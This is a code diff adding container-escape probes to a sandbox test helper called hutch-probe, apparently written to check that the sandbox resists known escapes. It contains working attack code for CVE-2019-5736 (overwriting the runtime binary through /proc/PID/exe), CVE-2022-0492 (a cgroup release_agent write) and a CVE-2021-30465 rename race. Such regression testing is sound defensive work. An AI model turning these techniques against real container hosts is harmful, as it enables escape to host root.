@@ -20,6 +20,10 @@
  *   hutch-probe kill-all                   kill(-1, SIGKILL)
  *   hutch-probe keyrings                   the IDs of the session and user keyrings (without creating them)
  *   hutch-probe with-session PROG [ARG...] joins a new session keyring, then runs PROG (a host-side helper)
+ *   hutch-probe exe-attack SECONDS [STOPFILE]  CVE-2019-5736: tries to write the binaries of hutch's processes
+ *   hutch-probe swap A B SECONDS           renameat2(RENAME_EXCHANGE) of A and B without pause; "swaps: N"
+ *   hutch-probe release-agent              CVE-2022-0492: a new user+mount+cgroup namespace, a cgroup v1
+ *                                          mount, and a write to its release_agent
  *
  * Exit status 0 when every line was printed (whatever the kernel said), 2
  * for a usage error.  This is test code: it must stay tiny and depend on
@@ -29,8 +33,10 @@
 #include <errno.h>
 #include <fcntl.h>
 #include <pthread.h>
+#include <sched.h>
 #include <signal.h>
 #include <stdbool.h>
+#include <stdarg.h>
 #include <stdint.h>
 #include <stdio.h>
 #include <stdlib.h>
@@ -38,9 +44,11 @@
 #include <dirent.h>
 #include <sys/mount.h>
 #include <sys/stat.h>
+#include <sys/statvfs.h>
 #include <sys/syscall.h>
 #include <sys/sysmacros.h>
 #include <sys/wait.h>
+#include <time.h>
 #include <unistd.h>
 
 #define X32_BIT 0x40000000L
@@ -368,6 +376,363 @@ static int cmd_keyrings(void)
         return 0;
 }
 
+/* The racing container of CVE-2021-30465: swaps a directory and a symlink
+ * as fast as it can while another container starts with mounts below it. */
+static int cmd_swap(const char *a, const char *b, const char *secs)
+{
+        struct timespec now, end;
+        unsigned long n = 0;
+
+        if (atoi(secs) <= 0)
+                return 2;
+        clock_gettime(CLOCK_MONOTONIC, &end);
+        end.tv_sec += atoi(secs);
+        do {
+                for (int i = 0; i < 1000; i++)
+                        if (syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b, 2 /* RENAME_EXCHANGE */) == 0)
+                                n++;
+                        else if (n == 0)
+                                return print_result("swap", -errno);
+                clock_gettime(CLOCK_MONOTONIC, &now);
+        } while (now.tv_sec < end.tv_sec);
+        printf("swaps: %lu\n", n);
+        return 0;
+}
+
+static long write_file(const char *path, const char *text)
+{
+        int fd = open(path, O_WRONLY | O_CLOEXEC);
+        long r = 0;
+
+        if (fd < 0)
+                return -errno;
+        if (write(fd, text, strlen(text)) < 0)
+                r = -errno;
+        close(fd);
+        return r;
+}
+
+/* The CVE-2022-0492 pattern: become root of a new user namespace, mount a
+ * cgroup v1 hierarchy (a controller, else a named one) and write its
+ * release_agent, which the kernel would run as host root. */
+static int cmd_release_agent(void)
+{
+        static const char *const opts[] = { "rdma", "memory", "pids", "none,name=hutchprobe" };
+        char map[64];
+        uid_t uid = getuid();
+        gid_t gid = getgid();
+        long r = 0;
+
+        if (unshare(CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWCGROUP) < 0)
+                return print_result("unshare", -errno);
+        print_result("unshare", 0);
+        (void) write_file("/proc/self/setgroups", "deny");
+        snprintf(map, sizeof(map), "0 %u 1", (unsigned) uid);
+        r = write_file("/proc/self/uid_map", map);
+        snprintf(map, sizeof(map), "0 %u 1", (unsigned) gid);
+        if (r == 0)
+                r = write_file("/proc/self/gid_map", map);
+        print_result("maps", r);
+        (void) mount(NULL, "/", NULL, MS_REC | MS_PRIVATE, NULL);
+        if (mkdir("/tmp/cgv1", 0755) < 0 && errno != EEXIST)
+                return print_result("mkdir", -errno);
+        r = -ENOENT;
+        for (size_t i = 0; i < sizeof(opts) / sizeof(opts[0]); i++) {
+                r = mount("cgroup", "/tmp/cgv1", "cgroup", 0, opts[i]) < 0 ? -errno : 0;
+                if (r == 0) {
+                        printf("mount-cgroup1: OK %s\n", opts[i]);
+                        break;
+                }
+        }
+        if (r < 0)
+                return print_result("mount-cgroup1", r);
+        print_result("release_agent", write_file("/tmp/cgv1/release_agent", "/tmp/evil"));
+        return 0;
+}
+
+/* ---- exe-attack: what a container does to rewrite the runtime's binary ----
+ *
+ * For SECONDS (or until STOPFILE exists) it scans /proc without pause for
+ * processes of hutch (a comm, argv[0] or /proc/PID/exe naming hutch, or an
+ * argv[0] of /proc/self/exe, as a `#!/proc/self/exe` script gives), stops
+ * each one (SIGSTOP) while it tries, through /proc/PID/exe:
+ *   - open O_WRONLY|O_APPEND, and a write;
+ *   - open O_PATH, keeping the descriptor, and reopen it O_WRONLY through
+ *     /proc/self/fd/N, at once and again on every pass (the runc exploit
+ *     waits until no process runs the file, when ETXTBSY no longer holds);
+ *   - a writable remount of the mount the file is on (works with
+ *     CAP_SYS_ADMIN over that mount), then the reopen again;
+ * and lets it go on (SIGCONT).  It also opens /proc/PID/mem (the check
+ * ptrace attach makes, CVE-2016-9962) and /proc/PID/fd.  Each distinct
+ * outcome is printed once:
+ *   target comm=C argv0=A exe=LINK|ERRNO
+ *   mem exe=LINK: OK|ERRNO        fd-dir exe=LINK: OK|ERRNO
+ *   open-wronly exe=LINK: ERRNO | OK write: OK|ERRNO
+ *   open-path exe=LINK: ERRNO | OK dev:ino=D:I
+ *   reopen-wronly dev:ino=D:I: ERRNO | OK write: OK|ERRNO
+ *   remount dev:ino=D:I MOUNTPOINT: OK|ERRNO
+ * and last "summary: targets=N wrote=M" (M writes that succeeded). */
+
+#define MAX_KEPT 64
+#define MAX_SEEN 512
+
+static struct {
+        int fd;
+        unsigned long long dev, ino;
+        bool written; /* once is enough */
+} kept[MAX_KEPT];
+static size_t n_kept;
+static char *printed[MAX_SEEN];
+static size_t n_printed;
+static unsigned long wrote;
+
+__attribute__((format(printf, 1, 2))) static void say_once(const char *fmt, ...)
+{
+        char line[512];
+        va_list ap;
+
+        va_start(ap, fmt);
+        vsnprintf(line, sizeof(line), fmt, ap);
+        va_end(ap);
+        for (size_t i = 0; i < n_printed; i++)
+                if (strcmp(printed[i], line) == 0)
+                        return;
+        if (n_printed < MAX_SEEN)
+                printed[n_printed++] = strdup(line);
+        printf("%s\n", line);
+}
+
+static void read_small(const char *path, char *buf, size_t size)
+{
+        int fd = open(path, O_RDONLY | O_CLOEXEC);
+        ssize_t n = fd < 0 ? -1 : read(fd, buf, size - 1);
+
+        if (fd >= 0)
+                close(fd);
+        buf[n > 0 ? n : 0] = '\0';
+        buf[strcspn(buf, "\n")] = '\0'; /* comm's newline; cmdline stops at its first NUL anyway */
+}
+
+/* Opens path O_WRONLY|O_APPEND and writes a line; "OK write: OK" or the errno. */
+static const char *try_write(const char *path, char *res, size_t size)
+{
+        static const char mark[] = "\nhutch-probe was here\n";
+        int fd = open(path, O_WRONLY | O_APPEND | O_CLOEXEC);
+
+        if (fd < 0) {
+                snprintf(res, size, "%s", err_name(errno));
+                return res;
+        }
+        if (write(fd, mark, sizeof(mark) - 1) == (ssize_t) sizeof(mark) - 1) {
+                wrote++;
+                snprintf(res, size, "OK write: OK");
+        } else {
+                snprintf(res, size, "OK write: %s", err_name(errno));
+        }
+        close(fd);
+        return res;
+}
+
+static void reopen_kept(size_t i)
+{
+        char p[64], res[64];
+
+        if (kept[i].written)
+                return;
+        snprintf(p, sizeof(p), "/proc/self/fd/%d", kept[i].fd);
+        unsigned long before = wrote;
+        say_once("reopen-wronly dev:ino=%llu:%llu: %s", kept[i].dev, kept[i].ino, try_write(p, res, sizeof(res)));
+        kept[i].written = wrote > before;
+}
+
+/* The mount point of the mount fd is on, from fdinfo and mountinfo. */
+static bool mount_point_of(int fd, char *mp, size_t size)
+{
+        char p[64], buf[4096], line[4096];
+        unsigned mnt_id = 0;
+        bool found = false;
+        FILE *f;
+
+        snprintf(p, sizeof(p), "/proc/self/fdinfo/%d", fd);
+        if ((f = fopen(p, "re")) == NULL)
+                return false;
+        while (fgets(buf, sizeof(buf), f))
+                if (sscanf(buf, "mnt_id: %u", &mnt_id) == 1)
+                        break;
+        fclose(f);
+        if ((f = fopen("/proc/self/mountinfo", "re")) == NULL)
+                return false;
+        while (!found && fgets(line, sizeof(line), f)) {
+                unsigned id;
+                char point[4096];
+                if (sscanf(line, "%u %*u %*s %*s %4095s", &id, point) == 2 && id == mnt_id) {
+                        /* undo the octal escapes (\040 for a space) */
+                        size_t o = 0;
+                        for (const char *c = point; *c && o + 1 < size; c++) {
+                                if (c[0] == '\\' && c[1] && c[2] && c[3]) {
+                                        mp[o++] = (char) (((c[1] - '0') << 6) | ((c[2] - '0') << 3) | (c[3] - '0'));
+                                        c += 3;
+                                } else {
+                                        mp[o++] = *c;
+                                }
+                        }
+                        mp[o] = '\0';
+                        found = true;
+                }
+        }
+        fclose(f);
+        return found;
+}
+
+static void try_remount(size_t i)
+{
+        struct statvfs vfs;
+        char mp[4096];
+        unsigned long flags = MS_REMOUNT | MS_BIND;
+
+        if (!mount_point_of(kept[i].fd, mp, sizeof(mp))) {
+                say_once("remount dev:ino=%llu:%llu: mount not in this namespace", kept[i].dev, kept[i].ino);
+                return;
+        }
+        /* keep the flags a remount may not drop, lift only read-only */
+        if (statvfs(mp, &vfs) == 0) {
+                flags |= (vfs.f_flag & ST_NOSUID ? MS_NOSUID : 0) | (vfs.f_flag & ST_NODEV ? MS_NODEV : 0) |
+                         (vfs.f_flag & ST_NOEXEC ? MS_NOEXEC : 0) | (vfs.f_flag & ST_NOATIME ? MS_NOATIME : 0) |
+                         (vfs.f_flag & ST_NODIRATIME ? MS_NODIRATIME : 0) |
+                         (vfs.f_flag & ST_RELATIME ? MS_RELATIME : 0);
+        }
+        int r = mount(NULL, mp, NULL, flags, NULL);
+        say_once("remount dev:ino=%llu:%llu %s: %s", kept[i].dev, kept[i].ino, mp, r < 0 ? err_name(errno) : "OK");
+        if (r == 0)
+                reopen_kept(i);
+}
+
+static void attack(pid_t pid, const char *comm, const char *argv0, const char *link)
+{
+        char p[64], res[64];
+        struct stat st;
+
+        say_once("target comm=%s argv0=%s exe=%s", comm, argv0, link);
+        /* CVE-2016-9962: /proc/PID/mem asks what ptrace attach does */
+        snprintf(p, sizeof(p), "/proc/%d/mem", (int) pid);
+        int mfd = open(p, O_RDONLY | O_CLOEXEC);
+        say_once("mem exe=%s: %s", link, mfd < 0 ? err_name(errno) : "OK");
+        if (mfd >= 0)
+                close(mfd);
+        snprintf(p, sizeof(p), "/proc/%d/fd", (int) pid);
+        DIR *fds = opendir(p);
+        say_once("fd-dir exe=%s: %s", link, fds ? "OK" : err_name(errno));
+        if (fds)
+                closedir(fds);
+        snprintf(p, sizeof(p), "/proc/%d/exe", (int) pid);
+        say_once("open-wronly exe=%s: %s", link, try_write(p, res, sizeof(res)));
+        int fd = open(p, O_PATH | O_CLOEXEC);
+        if (fd < 0) {
+                say_once("open-path exe=%s: %s", link, err_name(errno));
+                return;
+        }
+        if (fstat(fd, &st) < 0) {
+                close(fd);
+                return;
+        }
+        say_once("open-path exe=%s: OK dev:ino=%llu:%llu", link, (unsigned long long) st.st_dev,
+                 (unsigned long long) st.st_ino);
+        for (size_t i = 0; i < n_kept; i++)
+                if (kept[i].dev == st.st_dev && kept[i].ino == st.st_ino) {
+                        close(fd);
+                        reopen_kept(i);
+                        return;
+                }
+        if (n_kept == MAX_KEPT) {
+                close(fd);
+                return;
+        }
+        kept[n_kept].fd = fd;
+        kept[n_kept].dev = st.st_dev;
+        kept[n_kept].ino = st.st_ino;
+        kept[n_kept].written = false;
+        n_kept++;
+        reopen_kept(n_kept - 1);
+        try_remount(n_kept - 1);
+}
+
+static bool is_target(const char *comm, const char *argv0, const char *link)
+{
+        const char *base = strrchr(argv0, '/') ? strrchr(argv0, '/') + 1 : argv0;
+
+        if (strncmp(comm, "hutch-probe", 11) == 0 || strncmp(base, "hutch-probe", 11) == 0)
+                return false;
+        return strstr(comm, "hutch") || strstr(base, "hutch") || strcmp(argv0, "/proc/self/exe") == 0 ||
+               (strstr(link, "hutch") && !strstr(link, "hutch-probe"));
+}
+
+static int cmd_exe_attack(int argc, char **argv)
+{
+        struct {
+                pid_t pid;
+                char link[256];
+        } done[MAX_SEEN];
+        size_t n_done = 0;
+        unsigned long targets = 0;
+        struct timespec now, end;
+        char *stop = argc > 1 ? argv[1] : NULL;
+
+        if (argc < 1 || argc > 2 || atoi(argv[0]) <= 0)
+                return 2;
+        clock_gettime(CLOCK_MONOTONIC, &end);
+        end.tv_sec += atoi(argv[0]);
+        for (;;) {
+                DIR *d = opendir("/proc");
+                struct dirent *de;
+
+                while (d && (de = readdir(d))) {
+                        pid_t pid = (pid_t) atoi(de->d_name);
+                        char path[64], comm[64], argv0[256], link[256];
+                        ssize_t n;
+                        bool seen = false;
+
+                        if (pid <= 0 || pid == getpid())
+                                continue;
+                        snprintf(path, sizeof(path), "/proc/%d/comm", (int) pid);
+                        read_small(path, comm, sizeof(comm));
+                        snprintf(path, sizeof(path), "/proc/%d/cmdline", (int) pid);
+                        read_small(path, argv0, sizeof(argv0));
+                        snprintf(path, sizeof(path), "/proc/%d/exe", (int) pid);
+                        n = readlink(path, link, sizeof(link) - 1);
+                        if (n < 0)
+                                snprintf(link, sizeof(link), "%s", err_name(errno));
+                        else
+                                link[n] = '\0';
+                        if (!is_target(comm, argv0, link))
+                                continue;
+                        for (size_t i = 0; i < n_done && !seen; i++)
+                                seen = done[i].pid == pid && strcmp(done[i].link, link) == 0;
+                        if (seen)
+                                continue;
+                        if (n_done < MAX_SEEN) {
+                                done[n_done].pid = pid;
+                                snprintf(done[n_done].link, sizeof(done[n_done].link), "%s", link);
+                                n_done++;
+                        }
+                        targets++;
+                        (void) kill(pid, SIGSTOP);
+                        attack(pid, comm, argv0, link);
+                        (void) kill(pid, SIGCONT);
+                }
+                if (d)
+                        closedir(d);
+                for (size_t i = 0; i < n_kept; i++)
+                        reopen_kept(i);
+                clock_gettime(CLOCK_MONOTONIC, &now);
+                if (now.tv_sec > end.tv_sec || (now.tv_sec == end.tv_sec && now.tv_nsec >= end.tv_nsec))
+                        break;
+                if (stop && access(stop, F_OK) == 0)
+                        break;
+        }
+        printf("summary: targets=%lu wrote=%lu\n", targets, wrote);
+        return 0;
+}
+
 int main(int argc, char **argv)
 {
         const char *cmd;
@@ -420,10 +785,16 @@ int main(int argc, char **argv)
                 execvp(argv[0], argv);
                 return print_result("with-session", -errno);
         }
+        if (strcmp(cmd, "swap") == 0 && argc == 3)
+                return cmd_swap(argv[0], argv[1], argv[2]);
+        if (strcmp(cmd, "release-agent") == 0)
+                return cmd_release_agent();
+        if (strcmp(cmd, "exe-attack") == 0)
+                return cmd_exe_attack(argc, argv);
         if (strcmp(cmd, "kill-all") == 0)
                 return print_result("kill-all", kill(-1, SIGKILL) < 0 ? -errno : 0);
 usage:
         fprintf(stderr, "usage: hutch-probe status|syscall|nr|list|fork|thread|stat|read|ls|write|create|mknod|"
-                        "remount-rw|exec|kill-all|keyrings|with-session ...\n");
+                        "remount-rw|exec|kill-all|keyrings|with-session|exe-attack|release-agent|swap ...\n");
         return 2;
 }
